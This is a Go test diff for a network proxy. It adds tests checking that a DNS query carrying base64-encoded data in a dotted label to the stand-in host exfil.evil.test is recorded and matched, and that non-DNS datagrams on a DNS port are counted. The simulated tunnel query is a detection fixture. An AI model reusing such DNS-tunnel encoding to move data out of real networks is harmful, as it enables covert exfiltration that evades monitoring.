@@ -1,6 +1,7 @@
 package proxy
 
 import (
+	"bytes"
 	"fmt"
 	"net"
 	"net/netip"
@@ -289,5 +290,86 @@ func TestDNSRecordNameLowerCase(t *testing.T) {
 	}
 	if n := testing.AllocsPerRun(100, func() { presentName("www.example.com") }); n != 0 {
 		t.Errorf("a lower-case name allocates %v times", n)
+	}
+}
+
+// TestDNSDotInLabelRecorded plays a tunnel that puts its data in one label
+// holding a '.' byte, \x0fc2VjcmV0.ZGF0YQ: label bytes are binary to a
+// resolver, which resolves the name and forwards it towards the tunnel's
+// server. The parser refused it (dnsmessage rejects a dot in a label), the
+// flow went opaque, and the query had no dns record and its answer no
+// match. It must be recorded, with the inner dot written \046, its answer
+// matched and handed to DNSAnswer; and the flow's udp record says nothing
+// of datagrams that are not DNS, for there were none.
+func TestDNSDotInLabelRecorded(t *testing.T) {
+	res := newDNSResolver(t, 0)
+	answers := make(chan []byte, 4)
+	p, _, recs := udpProxy(t, "policy: {default: allow}\n", func(cfg *Config) {
+		cfg.UDPIdleTimeout = 3 * time.Second
+		cfg.DNSPorts = []uint16{res.addr().Port()}
+		cfg.DNSAnswer = func(_ string, msg []byte) { answers <- bytes.Clone(msg) }
+	})
+	q := dnsQueryLabels(9, []string{"c2VjcmV0.ZGF0YQ", "exfil", "evil", "test"}, 16, 0x0100)
+	c, done := startFlow(p, quicClient, res.addr(), q)
+	<-c.out
+	<-done
+	var got []string
+	for _, r := range recs.records(t, 2) {
+		switch r.Kind {
+		case "dns":
+			got = append(got, r.QueryName+" "+r.QueryType+" "+r.Result+" "+r.RCode)
+		case "udp":
+			if r.Error != "" {
+				t.Errorf("udp record error %q, want none", r.Error)
+			}
+		}
+	}
+	const want = `c2vjcmv0\046zgf0yq.exfil.evil.test TXT ok NXDOMAIN`
+	if len(got) != 1 || got[0] != want {
+		t.Fatalf("dns records %q, want [%q]", got, want)
+	}
+	select {
+	case a := <-answers:
+		if !bytes.Equal(a, dnsResponse(q)) {
+			t.Errorf("DNSAnswer saw %q, want the answer", a)
+		}
+	default:
+		t.Error("the answer was not handed to DNSAnswer")
+	}
+}
+
+// TestDNSPortNotDNSNoted: datagrams to a DNS port that are not DNS queries
+// have no dns record (there is no question to name), so the flow's udp
+// record says how many there were: otherwise a tunnel that is not DNS at
+// all would look, beside a lookup, like a resolver's traffic.
+func TestDNSPortNotDNSNoted(t *testing.T) {
+	res := newDNSResolver(t, 0)
+	p, _, recs := udpProxy(t, "policy: {default: allow}\n", func(cfg *Config) {
+		cfg.UDPIdleTimeout = time.Second
+		cfg.DNSPorts = []uint16{res.addr().Port()}
+	})
+	// Its fifth and sixth bytes ("o,") are a question count, its
+	// thirteenth ('D', 0x44) no label length a name may have.
+	notDNS := []byte("hello, not DNS at all")
+	c, done := startFlow(p, quicClient, res.addr(), dnsQuery(3, "www.example.test", 1), notDNS, notDNS)
+	for range 3 {
+		<-c.out
+	}
+	<-done
+	var dns []string
+	udpErr := "no udp record"
+	for _, r := range recs.records(t, 2) {
+		switch r.Kind {
+		case "dns":
+			dns = append(dns, r.QueryName)
+		case "udp":
+			udpErr = r.Error
+		}
+	}
+	if len(dns) != 1 || dns[0] != "www.example.test" {
+		t.Errorf("dns records %q, want the one query", dns)
+	}
+	if want := "datagrams from the client that were not DNS queries: 2"; udpErr != want {
+		t.Errorf("udp record error %q, want %q", udpErr, want)
 	}
 }
